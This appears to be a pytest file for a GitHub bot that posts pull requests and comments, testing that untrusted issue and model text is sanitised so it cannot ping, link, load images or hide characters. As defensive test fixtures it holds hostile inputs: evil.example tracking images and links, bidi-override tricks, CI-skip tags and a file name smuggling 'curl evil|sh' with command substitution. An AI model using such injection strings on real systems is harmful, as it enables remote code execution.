"""What people read: the facts, whose move it is, and nothing of strangers that does anything."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.harmless import clipped, defused, fenced, quoted
from bot.messages import endings, notices, replies
from bot.messages.words import Messages
from bot.store.port import Run
from handlers.decision import Reply, Topic
from policies.decision import Decision, Verdict
from policies.effects import OpenPullRequest, PostComment
from policies.patch import Patch
from tests.unit.fakes import issue, trigger
from workflows.engine.status import RunStatus
from workflows.errors import Failure, Who
from workflows.ports.ledger import Spent
from workflows.ports.sandbox import SandboxFacts
from workflows.progress import Progress, Stage
from workflows.project.allowance import Allowance
from workflows.proof.green import Green, Unharmed
from workflows.proof.mode import DiagnosticsMode
from workflows.proof.red import Red
from workflows.proof.statement import Commands, Proof

WORDS = Messages()
TEST = "tests/test_pages.py::test_it"

HOSTILE = (
    "@octo/everyone look: <img src=https://evil.example/x.png> ![beacon](https://evil.example/b.png)\n"
    "closes #12, fixes GH-13 <!-- redfirst run=rother --> [click](//evil.example) www.evil.example\n"
    "\n[a]: https://evil.example\n```\n\u202egnp.exe\u202c \u200bhidden\U000e0041 ````\n<details open>"
)


def proof(
    tests: tuple[str, ...] = (TEST,), assertion: str = "assert 1 == 2", file: str = "tests/test_pages.py"
) -> Proof:
    return Proof(
        run="r1",
        repository="octo/reds",
        issue=7,
        base_sha="b" * 40,
        head_sha="c" * 40,
        runner="pytest",
        commands=Commands(
            repro=("python", "-m", "pytest", file),
            suite=("python", "-m", "pytest"),
        ),
        sandbox=SandboxFacts(kind="docker", image="python@sha256:abc", network="none"),
        test=Patch(),
        fix=Patch(),
        test_digest="1" * 64,
        fix_digest="2" * 64,
        red=Red(tests=tests, files=(file,), assertion=assertion, runs=3),
        green=Green(tests=tests, runs=3),
        suite=Unharmed(
            before="9 passed, 1 failed", after="10 passed, 1 failed", compared=9, failing_before=("x",)
        ),
        release="0.1.0",
    )


def pull(
    summary: str = "It rounded down.", title: str = "Total is off", of: Proof | None = None
) -> tuple[str, str]:
    return WORDS.pull_request(trigger(subject=issue(title=title)), summary, of or proof(), "d" * 64)


def live(text: str) -> list[str]:
    """All that would notify, close, link, load or hide something, by what Markdown makes of the text."""
    found: list[str] = []
    for block in MarkdownIt("commonmark").parse(text):
        for token in [block, *(block.children or ())]:
            if token.type in {"html_block", "html_inline"}:
                found += re.findall(r"<(?!/?(?:sub|details|summary)>)", token.content)
            elif token.type in {"link_open", "image"}:
                found.append(token.type)
            elif token.type == "text":
                found += re.findall(r"(?<!\w)@\w|#\d|\bGH-\d|\]\(|\]\[|\]:|://|\bwww\.", token.content)
                found += re.findall(r"[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f\x1b]", token.content)
    return found


# --- progress -------------------------------------------------------------------------------------------


def test_progress_ticks_what_is_done_and_marks_what_is_going_on() -> None:
    text = WORDS.progress(Progress(run="r1", stage=Stage.RED))
    assert "- [x] look at the project and run its tests as they are\n- [x] plan\n" in text
    assert "- [ ] write a test and see it fail …\n" in text
    assert "- [ ] open a draft pull request\n" in text
    assert text.endswith("<sub>run `r1`</sub>")


@pytest.mark.parametrize(
    ("stage", "done"),
    [
        (Stage.PREPARE, 0),
        (Stage.PLAN, 1),
        (Stage.RED, 2),
        (Stage.GREEN, 3),
        (Stage.PROVE, 5),
        (Stage.REVIEW, 5),
    ],
)
def test_each_stage_is_one_tick_further(stage: Stage, done: int) -> None:
    text = WORDS.progress(Progress(run="r1", stage=stage))
    assert text.count("- [x]") == done
    assert text.count("- [ ]") == 5 - done


def test_progress_shows_the_failing_assertion_once_it_was_seen() -> None:
    text = WORDS.progress(Progress(run="r1", stage=Stage.GREEN, red="assert 1 == 2"))
    assert "**Red**, as the harness saw it:\n```\nassert 1 == 2\n```" in text


def test_progress_says_why_the_last_attempt_did_not_count_and_only_that() -> None:
    text = WORDS.progress(Progress(run="r1", stage=Stage.RED, refused="the test is flaky.\nlong\ntrace"))
    assert "The last attempt did not count: the test is flaky." in text
    assert "trace" not in text


def test_a_pull_request_awaits_review() -> None:
    text = WORDS.progress(Progress(run="r1", stage=Stage.REVIEW, pull_request=8, green="10 passed"))
    assert text.startswith("### Redfirst: #8 awaits your review\n")
    assert "is working on this" not in text
    assert "**Green**, the whole suite with the fix: 10 passed" in text


def test_the_end_says_how_it_ended() -> None:
    text = WORDS.progress(Progress(run="r1", stage=Stage.DONE, pull_request=8, verdict="merged"))
    assert text == "### Redfirst: done\n\n#8 was merged.\n\n<sub>run `r1`</sub>"


@pytest.mark.parametrize(
    ("who", "move"),
    [
        (Who.USER, "It is your move"),
        (Who.OPERATOR, "It is the move of whoever runs this bot"),
        (Who.MODEL, "The model did not manage"),
        (Who.NOBODY, "This may pass by itself"),
    ],
)
def test_a_failure_says_whose_move_it_is_and_how_to_try_again(who: Who, move: str) -> None:
    failure = Failure(who=who, sentence="no such page\nsecond line", feedback="said last")
    text = WORDS.progress(Progress(run="r1", stage=Stage.DONE, failure=failure))
    assert text.startswith("### Redfirst stopped\n\nno such page\n")
    assert move in text
    assert "`/agent retry` tries again" in text
    assert "What was said last:\n```\nsaid last\n```" in text
    assert "second line" not in text


def test_in_a_job_what_failed_is_begun_anew() -> None:
    failure = Failure(who=Who.USER, sentence="no such page")
    text = Messages(in_job=True).progress(Progress(run="r1", stage=Stage.DONE, failure=failure))
    assert "`/agent fix` tries again" in text
    assert "retry" not in text


def test_changes_that_could_not_be_made_leave_the_pull_request_to_people() -> None:
    failure = Failure(who=Who.USER, sentence="no such page\nsecond line")
    text = WORDS.progress(Progress(run="r1", stage=Stage.REVIEW, pull_request=8, failure=failure))
    assert text.startswith("### Redfirst left #8 as it is\n\nno such page\n")
    assert "#8 waits for you again" in text
    assert "retry" not in text


@pytest.mark.parametrize(
    ("who", "shown"), [(Who.USER, True), (Who.OPERATOR, False), (Who.MODEL, False), (Who.NOBODY, False)]
)
def test_what_is_the_operators_business_is_said_to_nobody_else(who: Who, shown: bool) -> None:
    said = endings.could_not(Failure(who=who, sentence="the token is wrong"))
    assert ("the token is wrong" in said) is shown
    assert ("whoever runs this bot" in said) is not shown


def test_a_failure_may_quote_anything() -> None:
    failure = Failure(who=Who.MODEL, sentence=HOSTILE.replace("\n", " "), feedback=HOSTILE)
    text = WORDS.progress(Progress(run="r1", stage=Stage.DONE, failure=failure))
    assert live(text) == []


# --- the pull request -----------------------------------------------------------------------------------


def test_a_pull_request_shows_red_green_and_how_to_see_it_yourself() -> None:
    title, body = pull()
    assert title == "Fix #7: Total is off"
    assert body.startswith("Fixes #7, asked for by @maintainer.")
    assert (
        "3 of 3 runs on bbbbbbbbbbbb fail:\n- `tests/test_pages.py::test_it`\n```\nassert 1 == 2\n```" in body
    )
    assert "3 of 3 runs pass, each in a fresh sandbox:" in body
    assert "before: 9 passed, 1 failed. With the fix: 10 passed, 1 failed." in body
    assert "Failing before already, and not counted: 1." in body
    assert f"git fetch origin && git checkout {'c' * 40}\npython -m pytest tests/test_pages.py" in body
    assert f"| proof file, sha256 | `{'d' * 64}` |" in body
    assert "docker python@sha256:abc, network none |" in body


def test_what_a_model_wrote_is_marked_as_such() -> None:
    _, body = pull("It rounded down.\nNow it rounds up.")
    quoted_first = "### What changed\n> It rounded down.\n> Now it rounds up.\n\n"
    assert f"{quoted_first}<sub>This paragraph was written by a model." in body


def test_a_sandbox_for_trusted_code_only_is_told_as_such() -> None:
    facts = SandboxFacts(kind="bubblewrap", image="", network="none", trusted_only=True)
    _, body = pull(of=proof().model_copy(update={"sandbox": facts}))
    assert "bubblewrap , network none, meant for trusted code only" in body.replace(
        "bubblewrap,", "bubblewrap ,"
    )


def ours(body: str) -> str:
    """Without the two references and the mention that are meant."""
    return body.replace("Fixes #7, asked for by @maintainer.", "", 1)


def test_no_text_of_a_model_does_anything_in_a_pull_request() -> None:
    _, body = pull(HOSTILE)
    assert live(ours(body)) == []


def test_no_output_of_a_test_does_anything_in_a_pull_request() -> None:
    name = "tests/a.py::t[`x`\n\n![b](https://evil.example) @octo closes #1 <img src=x>]"
    _, body = pull(of=proof((name,), HOSTILE))
    assert live(ours(body)) == []
    assert "\u202e" not in body


def test_no_marker_in_what_a_test_says_is_taken_for_ours() -> None:
    from bot import marker

    _, body = pull(HOSTILE, of=proof(assertion="<!-- redfirst run=rother -->"))
    assert marker.find(f"{body}\n\n{marker.mark(run='r1')}", "run") == "r1"


def test_the_command_to_paste_runs_nothing_but_the_test() -> None:
    import shlex

    evil = "tests/test_x;curl evil|sh #$(id)`id`.py"
    _, body = pull(of=proof(file=evil))
    command = next(line for line in body.splitlines() if line.startswith("python -m pytest"))
    assert shlex.split(command) == ["python", "-m", "pytest", evil]


@pytest.mark.parametrize("title", ["a\nb", "a\r\nb", "a\u2028b", "a\x85b", "a\x0bb", " \t a   b "])
def test_a_title_is_one_line(title: str) -> None:
    said, _ = pull(title=title)
    assert len(said.splitlines()) == 1
    assert said.startswith("Fix #7: a")


def test_a_title_hides_nothing_and_is_not_too_long() -> None:
    said, _ = pull(title="\u202egnp\u200b\U000e0041\x1b[31m" + "x" * 300)
    assert said == "Fix #7: gnp[31m" + "x" * 235


def test_a_title_that_grows_by_being_made_harmless_is_not_too_long() -> None:
    said, _ = pull(title="@a" * 128)
    assert len(said) <= 256


@pytest.mark.parametrize("of", [proof(tuple(f"t{n}" * 60 for n in range(500)), "y" * 32_000), None])
def test_nothing_makes_a_pull_request_too_long_for_github(of: Proof | None) -> None:
    title, body = pull("\u00e9<" * 100_000, "z" * 100_000, of)
    effect = OpenPullRequest(key="k", repository="o/n", head="h", base="b", title=title, body=body)
    assert int(str(effect.context()["characters"])) < 65_536 - 500  # room for the markers


@pytest.mark.parametrize(
    "title", ["closes #12", "fixes octo/reds#12", "resolves GH-12", "@octo", "https://evil.example"]
)
def test_a_strangers_title_closes_and_notifies_nothing_when_it_is_merged(title: str) -> None:
    subject, _, _ = WORDS.commit(trigger(subject=issue(title=title)), "x").partition("\n")
    named, _ = pull(title=title)
    for said in (subject, named):
        assert said.startswith("Fix #7: ")
        assert live(said.removeprefix("Fix #7: ")) == []


def test_many_tests_are_counted() -> None:
    _, body = pull(of=proof(tuple(f"t{number}" for number in range(25))))
    assert "- `t9`\n- and 15 more\n" in body


def test_nothing_makes_a_comment_too_long_for_github() -> None:
    failure = Failure(who=Who.MODEL, sentence="<" * 100_000, feedback="é" * 100_000)
    for progress in (
        Progress(run="r1", stage=Stage.DONE, failure=failure),
        Progress(run="r1", stage=Stage.GREEN, red="é" * 100_000, refused="<" * 100_000),
    ):
        effect = PostComment(key="k", repository="o/n", issue=1, body=WORDS.progress(progress))
        assert int(str(effect.context()["characters"])) < 65_536 - 500


def test_a_commit_says_what_for_and_why() -> None:
    assert WORDS.commit(trigger(), "It rounded down.") == "Fix #7: Total is off by one\n\nIt rounded down."


def test_no_text_of_a_model_does_anything_in_a_commit() -> None:
    _, _, rest = WORDS.commit(trigger(), HOSTILE).partition("\n\n")
    assert not re.search(r"@\w|#\d|GH-\d", rest)


# --- answers --------------------------------------------------------------------------------------------


def test_an_unknown_verb_is_answered_with_the_nearest_and_the_help() -> None:
    text = replies.reply(
        Reply(topic=Topic.UNKNOWN_VERB, issue=7, said="f`ux", nearest="fix"), None, Spent(), ""
    )
    assert text.startswith("I do not know `f'ux`. Did you mean `/agent fix`?")
    assert "| `/agent status` |" in text


def test_what_was_said_comes_back_defused() -> None:
    for topic in (Topic.UNKNOWN_VERB, Topic.UNKNOWN_OPTION):
        text = replies.reply(
            Reply(topic=topic, issue=7, said="`@octo`<img>" + "x" * 999, nearest="fix"), None, Spent(), ""
        )
        assert live(text) == []
        assert len(text) < 2_200


def test_help_names_every_verb() -> None:
    from handlers.grammar import VERBS

    text = replies.reply(Reply(topic=Topic.HELP, issue=7), None, Spent(), "")
    assert all(f"`/agent {verb}`" in text for verb in VERBS)


def test_the_status_of_an_issue_that_had_no_run() -> None:
    text = replies.reply(Reply(topic=Topic.STATUS, issue=7), None, Spent(), "")
    assert text == "There has been no run here yet. `/agent fix` on an issue starts one."


def test_the_status_of_a_run() -> None:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    run = Run(
        id="r1",
        workflow="fix",
        definition="abc",
        status=RunStatus.RUNNING,
        path="fix/plan",
        trigger=trigger(),
        created_at=now,
        updated_at=now,
    )
    spent = Spent(turns=3, tokens_in=12_345, tokens_out=678, dollars=0.125)
    text = replies.reply(Reply(topic=Topic.STATUS, issue=7), run, spent, "")
    cost = "3 turns, 12,345 tokens in, 678 out, $0.12"
    assert text == f"The run is **running**, at `fix/plan`, {cost}.\n\n<sub>run `r1`</sub>"


def test_a_refusal_gives_its_reasons() -> None:
    decision = Decision(verdict=Verdict.DENY, reasons=("only writers may", "bots may not"))
    assert notices.refused(decision) == "That was not done: only writers may; bots may not."


def test_a_second_run_is_not_started_and_the_first_is_named() -> None:
    assert "no second one was started" in notices.already_running("r1")
    assert "`r1`" in notices.already_running("r1")


def test_a_job_summary_is_a_list_and_quotes_what_was_said() -> None:
    text = endings.job_summary("failure", "", "not red", "```x")
    assert "- pull request: none\n" in text
    assert "````\n```x\n````\n" in text
    assert endings.job_summary("success", "https://x/8", "red", "").endswith("- pull request: https://x/8\n")


# --- defusing -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "@octo",
        "#12",
        "octo/reds#12",
        "GH-12",
        "![x](https://evil.example/x.png)",
        "![x][ref]",
        "[x](//evil.example)",
        "[a]: //evil.example",
        "<img src=x>",
        "<!-- hidden -->",
        "<script>",
        "\u202egnp",
        "a\u200b\u200db\ufeff",
        "\u061c",
        "\U000e0041\U000e0042",
        "\x1b[31m",
        "x\u00ady",
        "\U000e0101",
    ],
)
def test_what_would_do_something_does_nothing(text: str) -> None:
    said = defused(text)
    assert said != text
    assert live(said) == []


@pytest.mark.parametrize(
    "text", ["plain", "a[0] + b", "50% # comment", "mail at night", "ünïcödé 日本語", "x -> y\n\tz"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


PIECES = [
    "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", "|", "@octo", "#12", "GH-3",
    "<b>", "<!--", "-->", "<script>", "</script>", "[a](", "[a]: ", "![a](", ")", "https://evil.example",
    "www.evil.example", "*", "_", "&", "&lt;", "&#96;", "&#64;octo", "&amp;", "#64;", "&#10;", "x", "py",
    "\t", "\u200b", "\u202e",
]  # fmt: skip


@settings(deadline=None, max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_nothing_is_alive_in_any_text_that_was_defused(text: str) -> None:
    assert live(defused(text)) == []
    assert live(quoted(text)) == []


CODE = "def first(xs: list[str]) -> str:\n    return xs['a'][0]  # see @app, #12 and https://example.org"


@pytest.mark.parametrize(
    "text", [f"```\n{CODE}\n```", f"~~~py\n{CODE}\n~~~", f"Try\n```python\n{CODE}\n```\ndone", f"```\n{CODE}"]
)
def test_code_stays_as_it_is_so_that_it_can_be_copied(text: str) -> None:
    (block,) = (token for token in MarkdownIt("commonmark").parse(defused(text)) if token.type == "fence")
    assert block.content.rstrip("\n") == CODE


def test_code_within_a_line_stays_as_it_is() -> None:
    assert defused("say `xs['a'][0] < @app` now") == "say `xs['a'][0] < @app` now"


def test_a_language_is_kept_and_nothing_else_that_stands_there() -> None:
    assert defused("```py\nx\n```") == "\n```py\nx\n```"
    assert defused("```<b> @octo\nx\n```") == "\n```\nx\n```"


@pytest.mark.parametrize("order", ["[skip ci]", "[ci skip]", "[no ci]", "[Skip Actions]", "[actions skip]"])
def test_no_title_keeps_our_checks_from_running(order: str) -> None:
    message = WORDS.commit(trigger(subject=issue(title=f"Broken {order}")), f"It was broken {order}")
    assert order not in message


def test_no_model_adds_a_trailer_to_a_commit() -> None:
    message = WORDS.commit(
        trigger(), "Mended.\n\nCo-authored-by: A <a@example.org>\nskip-checks: true\nNote: yes"
    )
    assert "Co-authored-by:" not in message
    assert "skip-checks:" not in message
    assert "Note: yes" in message


@settings(deadline=None)
@given(st.text(st.sampled_from("`~\n ab<"), max_size=40))
def test_no_text_gets_out_of_its_fence(text: str) -> None:
    first, *inside, last = fenced(text).split("\n")
    assert first == last
    assert set(first) == {"`"}
    assert not any(line.strip().startswith(first) for line in inside)


@settings(deadline=None)
@given(st.text(max_size=100))
def test_no_text_gets_out_of_its_quotation(text: str) -> None:
    assert all(line.startswith(">") for line in quoted(text).splitlines())


def test_nothing_is_said_to_be_nothing() -> None:
    assert quoted("") == "> (nothing)"


def test_long_text_is_cut_and_says_so() -> None:
    assert clipped("x" * 10, 5) == "xxxxx …"
    assert clipped("x" * 5, 5) == "xxxxx"


def test_what_is_set_up_says_what_a_repository_may_decide() -> None:
    text = replies.config("agent:fix", {}, "abc", "1.0", Allowance(diagnostics=DiagnosticsMode.REQUIRED))
    assert "| witness | `as .github/redfirst.yml says` |" in text
    assert "| checkers | `at least required` |" in text
